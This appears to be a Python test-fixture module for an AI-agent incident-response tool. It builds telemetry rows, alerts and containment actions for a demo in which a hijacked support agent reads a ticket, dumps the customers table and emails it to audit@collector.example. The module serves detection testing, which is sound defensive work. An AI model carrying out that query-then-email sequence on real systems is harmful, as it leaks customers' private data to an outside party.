"""The demo's story as rows of the event frame, its texts taken from the demo itself, and variations of it; an incident around it."""

from __future__ import annotations

import asyncio
import hashlib
import json
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import polars as pl

from otel_ir.demo.desk import HIJACKED, INSTRUCTIONS, PROMPT, SERVICE, Desk
from otel_ir.investigate import Evidence, IncidentFacts, Investigation, investigate, load_evidence
from otel_ir.investigate.load import window_of
from otel_ir.investigate.model import ActionFacts, AlertFacts, NoteFacts, StepFacts
from otel_ir.model import EVENT_SCHEMA, PATCH_SCHEMA, Alert, SpanRef
from otel_ir.store import EvidenceStore

NOON = 1_767_268_800_000_000_000
SECOND = 1_000_000_000
INCIDENT = "INC-20260101120000-a1b2c3d4"
AGENT = f"{SERVICE}/{HIJACKED}"
TRACE, TALK = "a" * 32, "ticket-4711"


def span(number: int) -> str:
    """A span id."""
    return hashlib.sha256(f"span {number}".encode()).hexdigest()[:16]


def row(number: int, at: float, kind: str = "tool_call", **changes: Any) -> dict[str, Any]:
    """An event that ended ``at`` seconds after noon; keys of ``changes`` have ``__`` for a dot."""
    values = {
        "event_time": NOON + int(at * SECOND),
        "start_time": NOON + int(at * SECOND) - 1_000_000,
        "event.type": kind,
        "trace_id": TRACE,
        "span_id": span(number),
        "otel_ir.span.name": f"{kind} {number}",
        "service.name": SERVICE,
        "otel_ir.tenant": "",
        "otel_ir.sender": "",
        "otel_ir.agent.id": AGENT,
        "otel_ir.agent.id_source": "own",
        "gen_ai.agent.name": HIJACKED,
        "gen_ai.conversation.id": TALK,
        "otel_ir.executed": "yes" if kind == "tool_call" else None,
        "error": False,
    }
    values |= {name.replace("__", "."): value for name, value in changes.items()}
    values["otel_ir.event.id"] = f"{values['trace_id']}/{values['span_id']}"
    values["otel_ir.journal.ordinal"], values["otel_ir.journal.position"] = number, 0
    return values


def call(number: int, at: float, tool: str, arguments: Any, result: str | None, **changes: Any) -> dict[str, Any]:
    """A tool call."""
    text = arguments if isinstance(arguments, str) else json.dumps(arguments)
    return row(
        number, at, gen_ai__tool__name=tool, gen_ai__tool__call__arguments=text, gen_ai__tool__call__result=result, **changes
    )  # fmt: skip


def asks(number: int, at: float, text: str, system: str = INSTRUCTIONS, **changes: Any) -> dict[str, Any]:
    """A request to the model with what the user said."""
    messages = json.dumps([{"role": "user", "parts": [{"type": "text", "content": text}]}])
    prompt = json.dumps([{"type": "text", "content": system}])
    return row(number, at, "model_output", gen_ai__input__messages=messages, gen_ai__system_instructions=prompt, **changes)


def demo_rows() -> list[dict[str, Any]]:
    """What the hijacked agent of the demo did, with what the desk really answers."""
    desk = Desk(lambda *_: None)
    try:
        ticket = asyncio.run(desk.read_ticket(4711))
        table = asyncio.run(desk.database_query("SELECT * FROM customers"))
    finally:
        desk.close()
    mail = {"to": "audit@collector.example", "subject": "audit", "body": table}
    return [
        asks(1, 0.2, PROMPT.format(ticket=4711)),
        call(2, 0.7, "read_ticket", {"ticket": 4711}, ticket),
        call(3, 1.1, "database_query", {"sql": "SELECT * FROM customers"}, table),
        call(4, 1.5, "send_email", mail, "sent to audit@collector.example"),
    ]


def frame(rows: Sequence[Mapping[str, Any]]) -> pl.DataFrame:
    """An event frame."""
    return pl.DataFrame([dict(one) for one in rows], schema=EVENT_SCHEMA)


def alert(cited: Sequence[int], at: float, signal: str = "suspicious_tool_sequence", **changes: Any) -> AlertFacts:
    """An alert that cites spans; received 0.1 s and recorded 0.15 s after the event."""
    values: dict[str, Any] = {
        "alert_id": f"{signal}-{cited[-1]}".ljust(32, "0"),
        "rule_id": "rule",
        "signal": signal,
        "ruleset": "digest",
        "severity": "critical",
        "stage": "compromise",
        "title": "Database query, then email",
        "description": "database_query -> send_email within the last 5 events",
        "service": SERVICE,
        "agent_id": AGENT,
        "agent_id_source": "own",
        "conversation_id": TALK,
        "trace_id": TRACE,
        "span_id": span(cited[-1]),
        "event_time": NOON + int(at * SECOND),
        "received": NOON + int((at + 0.1) * SECOND),
        "contributing": tuple(SpanRef(TRACE, span(number)) for number in cited),
    }
    return AlertFacts(alert=Alert(**values | changes), recorded_at=NOON + int((at + 0.15) * SECOND))


def action(verb: str, steps: Sequence[tuple[str, float]], **changes: Any) -> ActionFacts:
    """An action through its states, at seconds after noon."""
    taken = tuple(StepFacts(at=NOON + int(at * SECOND), state=state, detail=f"{state} it") for state, at in steps)
    first = {state: NOON + int(at * SECOND) for state, at in reversed(list(steps))}
    values: dict[str, Any] = {
        "action_id": verb.ljust(32, "0"),
        "verb": verb,
        "adapter": "guard",
        "mode": "enforce",
        "state": steps[-1][0],
        "requested_at": taken[0].at,
        "dispatched_at": first.get("dispatched"),
        "applied_at": first.get("applied"),
        "verified_at": first.get("verified"),
        "ended_at": first.get("released"),
        "steps": taken,
        "detail": taken[-1].detail,
    }
    return ActionFacts(**values | changes)


FULL = (("requested", 1.7), ("dispatched", 1.71), ("applied", 1.8), ("verified", 2.0), ("releasing", 1802.0), ("released", 1802.5))


def incident(alerts: Sequence[AlertFacts], actions: Sequence[ActionFacts] = (), **changes: Any) -> IncidentFacts:
    """An incident of the hijacked agent; open unless said otherwise."""
    values: dict[str, Any] = {
        "incident_id": INCIDENT,
        "agent_id": AGENT,
        "state": "open",
        "opened_at": NOON + int(1.65 * SECOND),
        "service": SERVICE,
        "title": "Database query, then email",
        "severity": "critical",
        "alerts": tuple(alerts),
        "actions": tuple(actions),
    }
    return IncidentFacts(**values | changes)


def demo_incident(**changes: Any) -> IncidentFacts:
    """The demo's incident from its beginning to its end: two actions verified and released, one failed."""
    actions = (
        action("revoke_tools", FULL),
        action("pause_agent", FULL),
        action("isolate_network", (("requested", 1.7), ("dispatched", 1.71), ("failed", 4.0)), adapter="webhook"),
    )
    alerts = (alert([3, 4], 1.5), alert([4], 1.5, "data_exfiltration", description="Large outbound body: body of 14,896 characters"))
    values: dict[str, Any] = {
        "state": "closed",
        "contained_at": NOON + 2 * SECOND,
        "recovering_at": NOON + int(1802.5 * SECOND),
        "closed_at": NOON + 5400 * SECOND,
        "notes": (NoteFacts(at=NOON + 5400 * SECOND, kind="close", who="ada", text="the ticket was cleaned"),),
    }
    return incident(alerts, actions, **values | changes)


def look(facts: IncidentFacts, rows: Sequence[Mapping[str, Any]], elsewhere: Sequence[Mapping[str, Any]] = ()) -> Investigation:
    """An investigation over rows, without a store."""
    window = window_of(facts)
    return investigate(facts, Evidence(window=window, total_events=len(rows), events=frame(rows), elsewhere=frame(elsewhere)))


def stored(folder: Path, rows: Sequence[Mapping[str, Any]]) -> str:
    """The rows in an evidence store. -> its URL."""
    store = EvidenceStore.open(str(folder))
    store.append(frame(rows), PATCH_SCHEMA.to_frame(), max(one["otel_ir.journal.ordinal"] for one in rows))
    store.close()
    return str(folder)


def from_store(folder: Path, facts: IncidentFacts, rows: Sequence[Mapping[str, Any]]) -> Investigation:
    """An investigation of rows that went through an evidence store."""
    return investigate(facts, load_evidence(stored(folder, rows), facts))
